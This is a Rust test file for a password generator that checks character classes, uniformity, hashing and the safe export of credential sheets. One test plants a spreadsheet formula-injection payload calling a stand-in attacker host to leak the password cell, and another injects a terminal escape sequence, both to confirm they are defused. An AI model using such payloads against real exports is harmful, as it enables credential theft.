//! Generated passwords: the policy is honoured, draws are uniform, hashes
//! verify, and the plaintext never reaches the file.
#![cfg(not(target_arch = "wasm32"))]

use proget_users_core::generate::{
    self, apply_reset, credentials_csv, generate, new_credentials, reset_passwords, GenerateError,
    PasswordPolicy, AMBIGUOUS, DIGITS, LOWERCASE, MAX_LENGTH, MIN_LENGTH, NOT_FIRST, NUMBER_LIKE,
    SYMBOLS, UPPERCASE,
};
use proget_users_core::model::{User, UsersFile};
use proget_users_core::{csv, password, write};
use std::collections::HashMap;

fn policy(length: usize, lower: bool, upper: bool, digits: bool, symbols: bool) -> PasswordPolicy {
    PasswordPolicy {
        length,
        lowercase: lower,
        uppercase: upper,
        digits,
        symbols,
        exclude_ambiguous: false,
    }
}

#[test]
fn the_default_is_20_characters_of_every_class() {
    let p = PasswordPolicy::default();
    assert_eq!(p.length, 20);
    assert!(p.entropy_bits() > 128.0, "{}", p.entropy_bits());
    for _ in 0..200 {
        let pw = generate(&p).unwrap();
        assert_eq!(pw.chars().count(), 20);
        for class in [LOWERCASE, UPPERCASE, DIGITS, SYMBOLS] {
            assert!(pw.chars().any(|c| class.contains(c)), "{pw} lacks {class}");
        }
        let all = [LOWERCASE, UPPERCASE, DIGITS, SYMBOLS].concat();
        assert!(pw.chars().all(|c| all.contains(c)), "{pw}");
        assert!(!pw.starts_with(|c| NOT_FIRST.contains(c)), "{pw}");
    }
}

#[test]
fn lengths_and_chosen_classes_are_honoured() {
    let cases = [
        (
            policy(MIN_LENGTH, false, false, true, true),
            [DIGITS, SYMBOLS].concat(),
        ),
        (
            policy(128, true, false, false, true),
            [LOWERCASE, SYMBOLS].concat(),
        ),
        (
            policy(33, false, true, true, false),
            [UPPERCASE, DIGITS].concat(),
        ),
        (
            policy(MIN_LENGTH, true, true, true, true),
            [LOWERCASE, UPPERCASE, DIGITS, SYMBOLS].concat(),
        ),
    ];
    for (p, allowed) in cases {
        for _ in 0..100 {
            let pw = generate(&p).unwrap();
            assert_eq!(pw.chars().count(), p.length);
            assert!(pw.chars().all(|c| allowed.contains(c)), "{pw} under {p:?}");
            for class in p.classes() {
                assert!(pw.chars().any(|c| class.contains(&c)), "{pw} under {p:?}");
            }
        }
    }
}

#[test]
fn ambiguous_characters_can_be_left_out() {
    let p = PasswordPolicy {
        exclude_ambiguous: true,
        length: 128,
        ..PasswordPolicy::default()
    };
    for _ in 0..50 {
        let pw = generate(&p).unwrap();
        assert!(!pw.chars().any(|c| AMBIGUOUS.contains(c)), "{pw}");
    }
    // With them allowed, 50 x 128 characters hold some.
    let with: String = (0..50)
        .map(|_| generate(&policy(128, true, true, true, true)).unwrap())
        .collect();
    assert!(with.chars().any(|c| AMBIGUOUS.contains(c)));
}

#[test]
fn bad_policies_are_refused() {
    // 16 without the strength feature: nothing could score a shorter draw.
    let shortest = if cfg!(feature = "strength") { 12 } else { 16 };
    assert_eq!((MIN_LENGTH, MAX_LENGTH), (shortest, 128));
    assert_eq!(
        generate(&policy(11, true, true, true, true)),
        Err(GenerateError::Length(11))
    );
    assert_eq!(
        generate(&policy(129, true, true, true, true)),
        Err(GenerateError::Length(129))
    );
    assert_eq!(
        generate(&policy(20, false, false, false, false)),
        Err(GenerateError::NoClasses)
    );
    assert!(policy(MIN_LENGTH, true, true, true, true)
        .validate()
        .is_ok());
    assert!(policy(128, false, false, false, true).validate().is_ok());
    assert_eq!(
        GenerateError::Length(8).to_string(),
        format!("a password length of 8 is not allowed: choose {shortest} to 128")
    );
}

#[test]
fn two_runs_differ() {
    let p = PasswordPolicy::default();
    let a = generate(&p).unwrap();
    let b = generate(&p).unwrap();
    assert_ne!(a, b);
    let lower = policy(MIN_LENGTH, true, false, false, false);
    let many: std::collections::HashSet<String> =
        (0..100).map(|_| generate(&lower).unwrap()).collect();
    assert_eq!(many.len(), 100); // 26^12 choices
}

/// Pearson's chi-square of counts against a uniform expectation.
fn chi_square(counts: &[usize]) -> f64 {
    let total: usize = counts.iter().sum();
    let expected = total as f64 / counts.len() as f64;
    counts
        .iter()
        .map(|&c| (c as f64 - expected).powi(2) / expected)
        .sum()
}

/// Within each class, every character is equally likely (after the first
/// position, which may not start a formula). The bound is some 10 standard
/// deviations above the mean (the degrees of freedom, under 30), so it
/// never flakes; modulo bias (a third of the alphabet 1.5 times likelier)
/// would give thousands.
#[test]
fn characters_are_uniform_within_each_class() {
    for p in [
        policy(128, true, false, false, false),
        PasswordPolicy {
            length: 128,
            ..PasswordPolicy::default()
        },
        PasswordPolicy {
            length: 128,
            exclude_ambiguous: true,
            ..PasswordPolicy::default()
        },
    ] {
        let mut counts: HashMap<char, usize> = HashMap::new();
        for _ in 0..400 {
            for c in generate(&p).unwrap().chars().skip(1) {
                *counts.entry(c).or_default() += 1;
            }
        }
        for class in p.classes() {
            let observed: Vec<usize> = class
                .iter()
                .map(|c| counts.get(c).copied().unwrap_or(0))
                .collect();
            let dof = (class.len() - 1) as f64;
            let x2 = chi_square(&observed);
            assert!(
                x2 < dof + 10.0 * (2.0 * dof).sqrt(),
                "chi-square {x2:.1} for {class:?} under {p:?}"
            );
        }
    }
    // The test can fail: a biased draw is far over the bound.
    let biased: Vec<usize> = (0..90).map(|i| if i < 76 { 3000 } else { 2000 }).collect();
    assert!(chi_square(&biased) > 89.0 + 10.0 * 178f64.sqrt());
}

fn team() -> UsersFile {
    let mut file = UsersFile::new();
    for (name, email) in [
        ("jDoe", Some("john@example.com")),
        ("asmith", None),
        ("Bob, Jr.", Some("bob@example.com")),
    ] {
        let mut user = User::new(name);
        user.set_email_address(email.map(str::to_owned));
        file.users.push(user);
    }
    file.users[1].set_plaintext_password("old-plaintext".into());
    file
}

#[test]
fn reset_hashes_each_password_and_the_sheet_holds_the_only_plaintext() {
    let mut file = team();
    let (done, sheet) = reset_passwords(
        &mut file,
        &["asmith", "Bob, Jr.", "asmith"],
        &PasswordPolicy::default(),
    )
    .unwrap();
    assert_eq!(done.users, ["asmith", "Bob, Jr."]);
    assert_eq!(done.to_string(), "generated new passwords for 2 users");
    assert_eq!(sheet.len(), 2);
    assert_eq!(sheet[1].email.as_deref(), Some("bob@example.com"));
    for c in &sheet {
        let user = file.user(&c.user_name).unwrap();
        assert!(password::verify(&c.password, user), "{}", c.user_name);
        assert_eq!(user.password, None);
        assert!(!format!("{c:?}").contains(&c.password));
    }
    assert_ne!(sheet[0].password, sheet[1].password);
    let json = write::to_json(&file);
    for c in &sheet {
        assert!(!json.contains(&c.password));
    }
    assert!(!json.contains("old-plaintext"));
    assert_eq!(file.users[0].password_bytes, None); // jDoe was not selected

    let text = credentials_csv(&sheet);
    assert!(text.starts_with("Name,DisplayName,Email,Password\r\nasmith,asmith,,"));
    assert!(text.contains("\"Bob, Jr.\",\"Bob, Jr.\",bob@example.com,"));
    // The sheet reads back (quoting and all) with the exact passwords.
    let back = csv::parse_csv(&text).unwrap();
    assert!(back.bad_rows.is_empty());
    for (row, c) in back.rows.iter().zip(&sheet) {
        assert_eq!(row.name, c.user_name);
        assert_eq!(row.password.as_deref(), Some(c.password.as_str()));
    }
}

#[test]
fn an_unknown_user_or_bad_policy_changes_nothing() {
    let mut file = team();
    let before = file.clone();
    assert_eq!(
        reset_passwords(&mut file, &["jDoe", "nobody"], &PasswordPolicy::default()).unwrap_err(),
        GenerateError::UnknownUser("nobody".into())
    );
    assert_eq!(
        reset_passwords(&mut file, &["jDoe"], &policy(3, true, true, true, true)).unwrap_err(),
        GenerateError::Length(3)
    );
    assert_eq!(file, before);
}

#[test]
fn hashing_in_chunks_elsewhere_gives_the_same_result() {
    let mut file = team();
    let names = ["jDoe", "asmith", "Bob, Jr."];
    let sheet = new_credentials(&file, &names, &PasswordPolicy::default()).unwrap();
    assert_eq!(file, team()); // nothing set yet
    for chunk in sheet.chunks(2) {
        let hashes = chunk
            .iter()
            .map(|c| (c.user_name.clone(), password::hash(&c.password).unwrap()))
            .collect();
        apply_reset(&mut file, hashes).unwrap();
    }
    for c in &sheet {
        assert!(password::verify(
            &c.password,
            file.user(&c.user_name).unwrap()
        ));
    }
    let before = file.clone();
    let bad = vec![("ghost".to_owned(), password::hash("x").unwrap())];
    assert_eq!(
        apply_reset(&mut file, bad),
        Err(GenerateError::UnknownUser("ghost".into()))
    );
    assert_eq!(file, before);
}

#[test]
fn a_policy_of_digits_alone_is_refused_and_no_password_reads_as_a_number() {
    for exclude_ambiguous in [false, true] {
        let digits = PasswordPolicy {
            exclude_ambiguous,
            ..policy(20, false, false, true, false)
        };
        assert_eq!(digits.validate(), Err(GenerateError::OnlyDigits));
        assert_eq!(generate(&digits), Err(GenerateError::OnlyDigits));
    }
    assert!(GenerateError::OnlyDigits
        .to_string()
        .contains("as well as digits"));
    let mut file = team();
    let before = file.clone();
    assert_eq!(
        reset_passwords(
            &mut file,
            &["jDoe"],
            &policy(MIN_LENGTH, false, false, true, false)
        )
        .unwrap_err(),
        GenerateError::OnlyDigits
    );
    assert_eq!(file, before);
    // Digits and symbols: a draw of number characters only ("12+3.5,6")
    // is thrown away, as is one starting with a formula character.
    let p = policy(MIN_LENGTH, false, false, true, true);
    for _ in 0..2000 {
        let pw = generate(&p).unwrap();
        assert!(!pw.chars().all(|c| NUMBER_LIKE.contains(c)), "{pw}");
        assert!(!pw.starts_with(|c| NOT_FIRST.contains(c)), "{pw}");
    }
}

#[test]
fn the_credentials_sheet_defuses_formulas_in_every_cell() {
    let mut file = UsersFile::new();
    let mut user = User::new("victim");
    user.set_display_name(Some(
        "=HYPERLINK(\"http://attacker.example/?p=\"&D2,\"Click\")".into(),
    ));
    user.set_email_address(Some("@evil".into()));
    file.users.push(user);
    file.users.push(User::new("-minus"));
    let (_, sheet) =
        reset_passwords(&mut file, &["victim", "-minus"], &PasswordPolicy::default()).unwrap();
    let text = credentials_csv(&sheet);
    let mut lines = text.split("\r\n");
    assert_eq!(lines.next(), Some("Name,DisplayName,Email,Password"));
    // (The password cell follows, quoted if it holds a `,` or `;`.)
    let line = lines.next().unwrap();
    assert!(
        line.starts_with(
            "victim,\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\",\"'@evil\","
        ),
        "{line}"
    );
    assert!(text.contains("\"'-minus\",\"'-minus\",,"));
    // The passwords themselves are never changed by the defusing. (The
    // first row's email, "@evil", is a bad row when read back.)
    let back = csv::parse_csv(&text).unwrap();
    assert_eq!(back.rows.len(), 1);
    assert_eq!(back.rows[0].name, "-minus");
    assert_eq!(
        back.rows[0].password.as_deref(),
        Some(sheet[1].password.as_str())
    );
}

#[test]
fn generate_messages_never_carry_control_characters() {
    let evil = "evil\u{1b}[2J";
    let shown = [
        GenerateError::UnknownUser(evil.into()).to_string(),
        generate::PasswordsReset {
            users: vec![evil.into()],
        }
        .to_string(),
    ];
    for text in shown {
        assert!(text.contains("evil\\u001b[2J"), "{text}");
        assert!(!text.chars().any(proget_users_core::text::is_unsafe));
    }
}

/// Every policy the generator accepts, at the shortest length: each set
/// of classes, with the ambiguous characters left out (the fewest
/// characters to draw from) and kept.
#[cfg(feature = "strength")]
fn shortest_policies() -> Vec<PasswordPolicy> {
    (1u8..32)
        .map(|bits| PasswordPolicy {
            length: MIN_LENGTH,
            lowercase: bits & 1 != 0,
            uppercase: bits & 2 != 0,
            digits: bits & 4 != 0,
            symbols: bits & 8 != 0,
            exclude_ambiguous: bits & 16 == 0,
        })
        .filter(|p| p.validate().is_ok())
        .collect()
}

/// The page builds the core without `strength`, so its shortest length
/// (16) must keep draws strong unchecked: draws of 16 are never scored
/// (only shorter ones are), and none under any policy is weak.
#[cfg(feature = "strength")]
#[test]
fn unchecked_draws_of_the_page_s_shortest_length_are_never_weak() {
    use proget_users_core::strength::{assess, Owner};
    for p in shortest_policies() {
        let p = PasswordPolicy { length: 16, ..p };
        for _ in 0..300 {
            let pw = generate(&p).unwrap();
            assert_eq!(assess(&pw, &Owner::default()), None, "{pw} under {p:?}");
        }
    }
}

/// Issue 11: generated passwords are never weak, as `strength` (and so
/// `check`, `import-csv` and the page) judges a plaintext. At 8 characters
/// every one was (zxcvbn's score is at most 2 there).
#[cfg(feature = "strength")]
#[test]
fn generated_passwords_are_never_weak_under_any_policy_at_the_shortest_length() {
    use proget_users_core::strength::{assess, Owner};
    let policies = shortest_policies();
    // Every set of classes but none and digits alone, each with the
    // ambiguous characters left out and kept.
    assert_eq!(policies.len(), 28);
    for p in &policies {
        for _ in 0..500 {
            let pw = generate(p).unwrap();
            assert_eq!(pw.chars().count(), MIN_LENGTH);
            let weakness = assess(&pw, &Owner::default());
            assert_eq!(weakness, None, "{pw} under {p:?}");
        }
    }
    // Made for users, they are not weak for their owners either: the
    // user name, the display name and the email are not in them with
    // little added. (Short common names, lower-case letters alone.)
    let mut file = UsersFile::new();
    for (name, display, email) in [
        ("ann", "Ann Lee", "lee@example.com"),
        ("bob", "Bob Day", "day@example.com"),
        ("tim", "Tim Fox", "fox@example.com"),
    ] {
        let mut user = User::new(name);
        user.set_display_name(Some(display.into()));
        user.set_email_address(Some(email.into()));
        file.users.push(user);
    }
    let lower = &policies[0];
    assert!(lower.lowercase && !lower.uppercase && !lower.digits && !lower.symbols);
    assert!(lower.exclude_ambiguous);
    for _ in 0..700 {
        for c in new_credentials(&file, &["ann", "bob", "tim"], lower).unwrap() {
            let user = file.user(&c.user_name).unwrap();
            let weakness = assess(&c.password, &Owner::from(user));
            assert_eq!(weakness, None, "{} for {}", c.password, c.user_name);
        }
    }
}
